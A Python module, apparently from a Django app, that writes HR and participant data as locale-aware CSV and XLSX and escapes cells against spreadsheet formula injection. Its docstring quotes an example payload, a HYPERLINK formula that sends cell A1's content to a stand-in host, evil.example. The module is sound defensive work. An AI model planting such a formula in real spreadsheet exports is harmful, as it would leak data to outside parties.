"""Writing rows as CSV and XLSX for people who open them in a spreadsheet program.

Shared by every export (HR's enrolments, the programme manager's participant lists). Every
text cell passes through :func:`neutralise`, because names and course titles are typed in by
people outside the reader's control and the file is opened in Excel or LibreOffice.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal

from django.conf import settings
from django.utils.translation import get_language
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

Cell = str | int | Decimal | date | None

# Spreadsheet programs read a cell that starts with one of these as a formula (tab and carriage
# return too: some programs strip them and then see the formula behind them).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Column:
    """One column: its header (may be lazy), its XLSX width in characters and number format."""

    title: str
    width: int = 16
    number_format: str | None = None


def neutralise(value: Cell) -> Cell:
    """Make a text cell inert against formula injection (CSV/XLSX injection, OWASP).

    A learner may call themself ``=HYPERLINK("https://evil.example?"&A1, "Klik")``; if the file
    is opened in Excel or LibreOffice, that cell would run as a formula and could leak other
    cells or start programs. A leading apostrophe makes the program treat the cell as text (it
    is the escape Excel itself uses), so text starting with ``=``, ``+``, ``-``, ``@``, a tab or
    a carriage return gets one. Everything else, including numbers and dates, passes unchanged:
    a phone number like ``+31...`` keeps its digits and merely shows the apostrophe.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return f"'{value}"
    return value


def headers(columns: Sequence[Column]) -> list[str]:
    """The column headers in the active language."""
    return [str(column.title) for column in columns]


@dataclass(frozen=True)
class CsvDialect:
    """How a spreadsheet program in one language splits columns and writes decimals."""

    delimiter: str
    decimal: str


# Dutch Excel reads a comma as the decimal separator, so it splits columns on semicolons; an
# English one reads a decimal point and splits on commas. Neither gets a thousands separator:
# "1.195,00" would be read as text (or as 1.195) by one of them.
DUTCH = CsvDialect(delimiter=";", decimal=",")
ENGLISH = CsvDialect(delimiter=",", decimal=".")


def csv_dialect(language: str | None = None) -> CsvDialect:
    """The dialect for ``language`` (default: the active one): Dutch, else English."""
    language = language or get_language() or settings.LANGUAGE_CODE
    return DUTCH if language.startswith("nl") else ENGLISH


# Amounts in euros, as a number format of the XLSX: the reader's program shows the separators
# of its own language, so the same file reads "€ 1.195,00" in Dutch and "€ 1,195.00" in English.
EUROS = '"€" #,##0.00'


def csv_value(value: Cell, *, dialect: CsvDialect = DUTCH) -> str:
    """One cell as CSV text: empty for None, ISO dates, numbers with the dialect's decimal
    separator and no thousands separator, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return format(value, "f").replace(".", dialect.decimal)
    return str(neutralise(value))


def to_csv(
    columns: Sequence[Column],
    rows: Iterable[Sequence[Cell]],
    *,
    language: str | None = None,
    preamble: Sequence[Sequence[Cell]] = (),
    totals: Sequence[Cell] | None = None,
) -> bytes:
    """The rows as CSV that a spreadsheet program in ``language`` (default: the active one)
    opens with numbers as numbers: UTF-8 with a byte-order mark, and for Dutch semicolons and
    decimal commas, for English commas and decimal points (see :data:`DUTCH`).

    The BOM makes Excel read UTF-8 (else names like "Hüseyin" break). Dates are ISO
    (``2030-03-04``), which Excel reads as a date in either language. ``preamble`` lines (what
    the file is about) come first, then an empty line, then the table; ``totals`` is a last
    line under the rows.
    """
    dialect = csv_dialect(language)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=dialect.delimiter, lineterminator="\r\n")
    for line in preamble:
        writer.writerow([csv_value(value, dialect=dialect) for value in line])
    if preamble:
        writer.writerow([])
    writer.writerow([neutralise(header) for header in headers(columns)])
    for row in rows:
        writer.writerow([csv_value(value, dialect=dialect) for value in row])
    if totals is not None:
        writer.writerow([csv_value(value, dialect=dialect) for value in totals])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(
    columns: Sequence[Column],
    rows: Iterable[Sequence[Cell]],
    *,
    sheet_title: str,
    about: tuple[str, Sequence[str]] | None = None,
    preamble: Sequence[Sequence[Cell]] = (),
    totals: Sequence[Cell] | None = None,
) -> bytes:
    """The rows as an Excel workbook: real numbers and dates with each column's number format
    (:data:`EUROS` for amounts), bold frozen header row.

    ``preamble`` lines (what the file is about) go above the table, an empty row between;
    ``totals`` is a bold last row under the rows, in the columns' number formats.

    ``about`` is a second sheet's title and its lines, one per row, saying what the file
    holds; the rows stay on the first sheet, so a program that reads that one sees columns
    only. Built in memory: nothing is written to disk.
    """
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = str(sheet_title)[:31]  # Excel's limit for sheet names
    for line in preamble:
        sheet.append([neutralise(value) for value in line])
    header_row = len(preamble) + 2 if preamble else 1
    if preamble:
        sheet.append([])
    sheet.append([neutralise(header) for header in headers(columns)])
    for cell in sheet[header_row]:
        cell.font = Font(bold=True)
    for row in rows:
        sheet.append([neutralise(value) for value in row])
    last_row = sheet.max_row
    if totals is not None:
        sheet.append([neutralise(value) for value in totals])
        for cell in sheet[sheet.max_row]:
            cell.font = Font(bold=True)
    for index, column in enumerate(columns, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = column.width
        if column.number_format:
            for (cell,) in sheet.iter_rows(min_row=header_row + 1, min_col=index, max_col=index):
                cell.number_format = column.number_format
    sheet.freeze_panes = f"A{header_row + 1}"
    sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(len(columns))}{last_row}"
    if about is not None:
        title, lines = about
        notes = workbook.create_sheet(str(title)[:31])
        for line in lines:
            notes.append([neutralise(str(line))])
        notes["A1"].font = Font(bold=True)
        notes.column_dimensions["A"].width = 100
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
